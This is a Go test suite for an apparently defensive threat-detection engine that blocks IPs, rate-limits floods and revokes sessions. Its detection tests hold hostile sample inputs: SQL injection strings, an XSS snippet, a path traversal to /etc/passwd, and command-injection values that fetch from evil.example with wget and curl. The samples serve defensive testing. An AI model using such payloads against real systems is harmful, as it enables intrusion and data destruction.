package cerberus

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Wikid82/cerberus/internal/config"
)

func TestSubmit_SQLInjectionIsBlockedImmediately(t *testing.T) {
	clock := newFakeClock()
	store := newRecordingStore()
	alerter := &recordingAlerter{}
	e := newTestEngine(t, clock, WithStore(store), WithAlerter(alerter))

	v := e.Submit(sqlInjectionEvent("203.0.113.7"))
	require.NotNil(t, v)
	assert.True(t, v.Healed)
	assert.True(t, v.Blocked())

	a := v.Assessment
	assert.Equal(t, CategorySQLInjection, a.Category)
	assert.GreaterOrEqual(t, a.ThreatLevel, 0.9)
	assert.Equal(t, SeverityCritical, a.Severity)
	assert.InDelta(t, 1.0, a.Confidence, 1e-9)
	assert.Contains(t, a.Indicators, "sql_injection:tautology")
	assert.Equal(t, ActionBlockIP, a.Actions[0])

	block, ok := findAction(v.Actions, ActionBlockIP)
	require.True(t, ok)
	assert.Equal(t, StatusCompleted, block.Status)
	expires, ok := block.Details["expiresAt"].(time.Time)
	require.True(t, ok)
	assert.Equal(t, clock.Now().Add(24*time.Hour), expires)

	session, ok := findAction(v.Actions, ActionInvalidateSession)
	require.True(t, ok)
	assert.Equal(t, StatusCompleted, session.Status)
	assert.Equal(t, "no session", session.Details["skipped"])

	assert.True(t, e.IsBlocked("203.0.113.7"))
	assert.True(t, e.IsBlocked("::ffff:203.0.113.7"))
	assert.Equal(t, 1, e.Status().BlockedCount)

	snap := e.Metrics()
	assert.Equal(t, int64(1), snap.ThreatsDetected)
	assert.Equal(t, int64(1), snap.ThreatsBlocked)
	assert.Equal(t, int64(1), snap.ThreatsHealed)

	e.Stop()
	blocks, decisions, audits := store.snapshot()
	require.Contains(t, blocks, "203.0.113.7")
	assert.Equal(t, SeverityCritical, blocks["203.0.113.7"].Severity)
	require.Len(t, audits, 1)
	assert.Equal(t, a.ID, audits[0].AssessmentID)
	assert.Equal(t, a.EventID, audits[0].EventID)
	assert.NotEmpty(t, decisions)
	assert.Equal(t, 1, alerter.count())
}

func TestSubmit_InjectionSignaturesAlwaysBlock(t *testing.T) {
	payloads := []string{
		"id=1 UNION SELECT password FROM users",
		"'; DROP TABLE accounts; --",
		"host=x; wget http://evil.example/x.sh",
		"name=$(curl evil.example)",
	}
	for i, body := range payloads {
		t.Run(body, func(t *testing.T) {
			clock := newFakeClock()
			e := newTestEngine(t, clock)
			ip := fmt.Sprintf("198.51.100.%d", 20+i)
			v := e.Submit(SecurityEvent{Source: Source{IP: ip}, Payload: Payload{Method: "POST", Path: "/api/v1/items", Body: body}})
			require.NotNil(t, v)
			assert.GreaterOrEqual(t, v.Assessment.ThreatLevel, 0.9)
			assert.Contains(t, v.Assessment.Actions, ActionBlockIP)
			assert.True(t, e.IsBlocked(ip))
		})
	}
}

func TestSubmit_VolumetricFloodIsRateLimited(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)
	ip := "192.0.2.77"

	for i := 0; i < 150; i++ {
		clock.Advance(50 * time.Millisecond)
		e.Submit(SecurityEvent{Source: Source{IP: ip}, Payload: Payload{Method: "GET", Path: "/api/v1/products"}})
	}
	e.FlushBacklog()

	latest := e.RecentAssessments(1)
	require.Len(t, latest, 1)
	a := latest[0]
	assert.Equal(t, 1.0, a.RateScore)
	assert.Equal(t, CategoryRateAbuse, a.Category)
	assert.Equal(t, ActionRateLimit, a.Actions[0])
	assert.True(t, e.IsThrottled(ip))
	assert.Equal(t, 0, e.Status().BacklogSize)
}

func TestSubmit_BenignTrafficIsQueued(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)

	v := e.Submit(SecurityEvent{Source: Source{IP: "192.0.2.5"}, Payload: Payload{Method: "GET", Path: "/api/v1/products?page=2"}})
	assert.Nil(t, v)
	assert.Equal(t, 1, e.Status().BacklogSize)

	assert.Equal(t, 1, e.FlushBacklog())
	latest := e.RecentAssessments(0)
	require.Len(t, latest, 1)
	assert.Equal(t, CategoryNone, latest[0].Category)
	assert.Empty(t, latest[0].Actions)
	assert.Equal(t, int64(0), e.Metrics().ThreatsDetected)
	assert.False(t, e.IsBlocked("192.0.2.5"))
}

func TestSubmit_HighReputationTakesImmediatePath(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)
	ip := "192.0.2.6"
	e.reputation.Update(ip, 1, 1, time.Hour)

	v := e.Submit(SecurityEvent{Source: Source{IP: ip}, Payload: Payload{Method: "GET", Path: "/"}})
	require.NotNil(t, v)
	assert.Equal(t, CategoryReputation, v.Assessment.Category)
	assert.Equal(t, 1.0, v.Assessment.ThreatLevel)
	assert.Contains(t, v.Assessment.Indicators, "reputation=1.00")
}

func TestSubmit_MissingAddressUsesSentinelAndSkipsBlock(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)

	v := e.Submit(sqlInjectionEvent(""))
	require.NotNil(t, v)
	assert.Equal(t, UnknownIP, v.Assessment.SourceIP)
	block, ok := findAction(v.Actions, ActionBlockIP)
	require.True(t, ok)
	assert.Equal(t, StatusCompleted, block.Status)
	assert.Equal(t, "invalid address", block.Details["skipped"])
	assert.False(t, v.Blocked())
	assert.Empty(t, e.Blocks())
	assert.Equal(t, int64(0), e.Metrics().ThreatsBlocked)
}

func TestSubmit_AllowlistedAddressIsNeverBlocked(t *testing.T) {
	clock := newFakeClock()
	p := config.DefaultPolicy()
	p.Allowlist = []string{"203.0.113.0/24", "not-an-ip"}
	e := newTestEngineWithPolicy(t, clock, p)

	v := e.Submit(sqlInjectionEvent("203.0.113.7"))
	require.NotNil(t, v)
	block, ok := findAction(v.Actions, ActionBlockIP)
	require.True(t, ok)
	assert.Equal(t, "allowlisted", block.Details["skipped"])
	assert.False(t, e.IsBlocked("203.0.113.7"))
}

func TestSubmit_FailingActionDoesNotStopOthers(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock,
		WithAction(ActionBlockIP, func(*Engine, *ThreatAssessment, *HealingAction) error {
			return errors.New("firewall unavailable")
		}),
		WithAction(ActionInvalidateSession, func(*Engine, *ThreatAssessment, *HealingAction) error {
			panic("boom")
		}),
	)

	v := e.Submit(sqlInjectionEvent("203.0.113.8"))
	require.NotNil(t, v)
	require.Len(t, v.Actions, 3)
	assert.Equal(t, StatusFailed, v.Actions[0].Status)
	assert.Equal(t, "firewall unavailable", v.Actions[0].Error)
	assert.Equal(t, StatusFailed, v.Actions[1].Status)
	assert.Contains(t, v.Actions[1].Error, "panicked")
	assert.Equal(t, StatusCompleted, v.Actions[2].Status)
	assert.True(t, v.Healed)
	assert.Equal(t, int64(1), e.Metrics().ThreatsHealed)
}

func TestSubmit_UnknownActionFails(t *testing.T) {
	clock := newFakeClock()
	p := config.DefaultPolicy()
	p.CategoryOverrides = map[string][]string{"xss": {"quarantine"}}
	e := newTestEngineWithPolicy(t, clock, p)

	v := e.Submit(SecurityEvent{Source: Source{IP: "198.51.100.40"}, Payload: Payload{Body: "<script>alert(1)</script>"}})
	require.NotNil(t, v)
	act, ok := findAction(v.Actions, ActionKind("quarantine"))
	require.True(t, ok)
	assert.Equal(t, StatusFailed, act.Status)
	assert.Contains(t, act.Error, ErrUnknownAction.Error())
}

func TestSubmit_SessionRevocationAndFeatureDisable(t *testing.T) {
	clock := newFakeClock()
	p := config.DefaultPolicy()
	p.CategoryOverrides["path_traversal"] = []string{"circuit_break", "disable_feature"}
	p.FeatureFor = map[string]string{"path_traversal": "downloads"}
	e := newTestEngineWithPolicy(t, clock, p)

	ev := SecurityEvent{
		Source:  Source{IP: "198.51.100.41", SessionID: "sess-123"},
		Payload: Payload{Method: "GET", Path: "/files/../../etc/passwd"},
	}
	v := e.Submit(ev)
	require.NotNil(t, v)
	assert.Equal(t, CategoryPathTraversal, v.Assessment.Category)
	assert.True(t, e.IsFeatureDisabled("downloads"))

	xss := SecurityEvent{Source: Source{IP: "198.51.100.42", SessionID: "sess-456"}, Payload: Payload{Body: "<script>x</script>"}}
	v = e.Submit(xss)
	require.NotNil(t, v)
	assert.True(t, e.IsSessionRevoked("sess-456"))
	assert.False(t, e.IsSessionRevoked(""))

	clock.Advance(p.FeatureDisableFor)
	assert.False(t, e.IsFeatureDisabled("downloads"))
	clock.Advance(p.SessionRevocation)
	assert.False(t, e.IsSessionRevoked("sess-456"))
}

func TestSubmit_OversizedPayloadIsBounded(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)
	headers := map[string]string{}
	for i := 0; i < 100; i++ {
		headers[fmt.Sprintf("X-H-%03d", i)] = strings.Repeat("v", 4096)
	}
	ev := normalizeEvent(SecurityEvent{Payload: Payload{Body: strings.Repeat("a", 1<<20), Headers: headers}}, clock.Now(), 8<<10, 32)
	assert.Len(t, ev.Payload.Body, 8<<10)
	assert.Len(t, ev.Payload.Headers, 32)
	for _, v := range ev.Payload.Headers {
		assert.Len(t, v, 1<<10)
	}
	assert.NotEmpty(t, ev.ID)
	assert.Equal(t, clock.Now(), ev.Timestamp)
	assert.Equal(t, KindRequest, ev.Kind)

	assert.Nil(t, e.Submit(SecurityEvent{Payload: Payload{Body: strings.Repeat("a", 1<<20)}}))
}

func TestObservers_ReceiveDetectedAndHealed(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)
	ch, cancel := e.Subscribe(4)
	defer cancel()

	v := e.Submit(sqlInjectionEvent("203.0.113.9"))
	require.NotNil(t, v)

	first := <-ch
	second := <-ch
	assert.Equal(t, ThreatDetected, first.Type)
	assert.Equal(t, ThreatHealed, second.Type)
	assert.Equal(t, v.Assessment.ID, second.Assessment.ID)

	cancel()
	_, open := <-ch
	assert.False(t, open)
	assert.Equal(t, 0, e.observers.len())
}

func TestUnblock_CountsFalsePositiveAndResetsState(t *testing.T) {
	clock := newFakeClock()
	store := newRecordingStore()
	e := newTestEngine(t, clock, WithStore(store))
	e.Submit(sqlInjectionEvent("203.0.113.10"))
	require.True(t, e.IsBlocked("203.0.113.10"))
	require.Greater(t, e.ReputationOf("203.0.113.10"), 0.0)

	assert.True(t, e.Unblock("203.0.113.10"))
	assert.False(t, e.IsBlocked("203.0.113.10"))
	assert.Equal(t, 0.0, e.ReputationOf("203.0.113.10"))
	assert.Equal(t, int64(1), e.Metrics().FalsePositives)
	assert.False(t, e.Unblock("203.0.113.10"))

	e.Stop()
	blocks, _, _ := store.snapshot()
	assert.NotContains(t, blocks, "203.0.113.10")
}

func TestUnblock_ManualBlockIsNotFalsePositive(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)

	_, err := e.Block("198.51.100.70", "manual: abuse report", SeverityHigh)
	require.NoError(t, err)
	assert.True(t, e.Unblock("198.51.100.70"))
	assert.False(t, e.IsBlocked("198.51.100.70"))
	assert.Equal(t, int64(0), e.Metrics().FalsePositives)
}

func TestClearAllBlocks(t *testing.T) {
	clock := newFakeClock()
	store := newRecordingStore()
	e := newTestEngine(t, clock, WithStore(store))
	for i := 0; i < 3; i++ {
		e.Submit(sqlInjectionEvent(fmt.Sprintf("203.0.113.%d", 100+i)))
	}
	assert.Equal(t, 3, e.ClearAllBlocks())
	assert.Empty(t, e.Blocks())

	e.Stop()
	store.mu.Lock()
	defer store.mu.Unlock()
	assert.Equal(t, 1, store.clears)
}

func TestBlock_ManualAndInvalid(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)

	rec, err := e.Block("2001:db8::1", "manual", "")
	require.NoError(t, err)
	assert.Equal(t, SeverityMedium, rec.Severity)
	assert.Equal(t, clock.Now().Add(30*time.Minute), rec.ExpiresAt)

	_, err = e.Block("unknown", "manual", SeverityHigh)
	assert.ErrorIs(t, err, ErrInvalidBlockTarget)
	_, err = e.Block("", "manual", SeverityHigh)
	assert.ErrorIs(t, err, ErrInvalidBlockTarget)
}

func TestRestore_LoadsActiveBlocks(t *testing.T) {
	clock := newFakeClock()
	store := newRecordingStore()
	now := clock.Now()
	store.restore = []BlockRecord{
		{IP: "203.0.113.20", Severity: SeverityHigh, ExpiresAt: now.Add(time.Hour)},
		{IP: "203.0.113.21", Severity: SeverityLow, ExpiresAt: now.Add(-time.Minute)},
	}
	e := newTestEngine(t, clock, WithStore(store))

	n, err := e.Restore(context.Background())
	require.NoError(t, err)
	assert.Equal(t, 1, n)
	assert.True(t, e.IsBlocked("203.0.113.20"))
	assert.False(t, e.IsBlocked("203.0.113.21"))

	store.failWith = errors.New("disk full")
	_, err = e.Restore(context.Background())
	assert.Error(t, err)
}

func TestStoreFailureKeepsInMemoryVerdict(t *testing.T) {
	clock := newFakeClock()
	store := newRecordingStore()
	store.failWith = errors.New("database is locked")
	e := newTestEngine(t, clock, WithStore(store))

	v := e.Submit(sqlInjectionEvent("203.0.113.30"))
	require.NotNil(t, v)
	e.Stop()
	assert.True(t, e.IsBlocked("203.0.113.30"))
}

func TestMaintain_SweepsIdleState(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)
	e.Submit(SecurityEvent{Source: Source{IP: "192.0.2.90"}, Payload: Payload{Path: "/"}})
	e.FlushBacklog()
	e.sessions.add("old-session", time.Minute)
	require.Equal(t, 1, e.limiter.Len())

	clock.Advance(e.Policy().IdleCooldown + e.Policy().RateWindow + time.Second)
	e.Maintain()
	assert.Equal(t, 0, e.limiter.Len())
	assert.Equal(t, 0, e.reputation.Len())
	assert.Equal(t, 0, e.sessions.len())
}

func TestStartStop_DrainsBacklogInBackground(t *testing.T) {
	e, err := New(config.DefaultPolicy())
	require.NoError(t, err)
	require.NoError(t, e.Start(context.Background()))
	assert.True(t, e.Status().Running)
	require.NoError(t, e.Start(context.Background()), "second start is a no-op")

	for i := 0; i < 20; i++ {
		e.Submit(SecurityEvent{Source: Source{IP: fmt.Sprintf("192.0.2.%d", 100+i)}, Payload: Payload{Path: "/"}})
	}
	assert.Eventually(t, func() bool { return e.Status().BacklogSize == 0 }, 2*time.Second, 10*time.Millisecond)
	assert.Equal(t, 20, e.Status().ActiveAssessments)

	e.Stop()
	e.Stop()
	assert.False(t, e.Status().Running)
	assert.ErrorIs(t, e.Start(context.Background()), ErrEngineStopped)
}

func TestStart_ContextCancellationStopsEngine(t *testing.T) {
	e, err := New(config.DefaultPolicy())
	require.NoError(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	require.NoError(t, e.Start(ctx))
	cancel()
	assert.Eventually(t, func() bool { return !e.Status().Running }, 2*time.Second, 10*time.Millisecond)
}

func TestStart_InvalidMaintenanceSchedule(t *testing.T) {
	p := config.DefaultPolicy()
	p.MaintenanceSpec = "every now and then"
	e, err := New(p)
	require.NoError(t, err)
	assert.Error(t, e.Start(context.Background()))
}

func TestSetPolicy_AppliesToNextEvent(t *testing.T) {
	clock := newFakeClock()
	e := newTestEngine(t, clock)

	p := e.Policy()
	p.PatternConfidence = map[string]float64{"xss": 0.6}
	require.NoError(t, e.SetPolicy(p))
	v := e.Submit(SecurityEvent{Source: Source{IP: "198.51.100.60"}, Payload: Payload{Body: "<script>"}})
	require.NotNil(t, v)
	assert.InDelta(t, 0.6, v.Assessment.ThreatLevel, 1e-9)
	assert.Equal(t, []ActionKind{ActionRateLimit}, v.Assessment.Actions)

	bad := e.Policy()
	bad.VolumetricThreshold = 0
	assert.ErrorIs(t, e.SetPolicy(bad), config.ErrInvalidPolicy)
}

func TestSubmit_ConcurrentCallers(t *testing.T) {
	e, err := New(config.DefaultPolicy())
	require.NoError(t, err)
	defer e.Stop()

	var wg sync.WaitGroup
	for g := 0; g < 16; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 50; i++ {
				ip := fmt.Sprintf("10.1.%d.%d", g, i%5)
				if i%10 == 0 {
					e.Submit(sqlInjectionEvent(ip))
					continue
				}
				e.Submit(SecurityEvent{Source: Source{IP: ip}, Payload: Payload{Path: "/ok"}})
				_ = e.IsBlocked(ip)
				_ = e.Status()
			}
		}(g)
	}
	wg.Wait()
	e.FlushBacklog()
	assert.GreaterOrEqual(t, e.Metrics().ThreatsBlocked, int64(80))
	for g := 0; g < 16; g++ {
		assert.True(t, e.IsBlocked(fmt.Sprintf("10.1.%d.0", g)))
	}
}
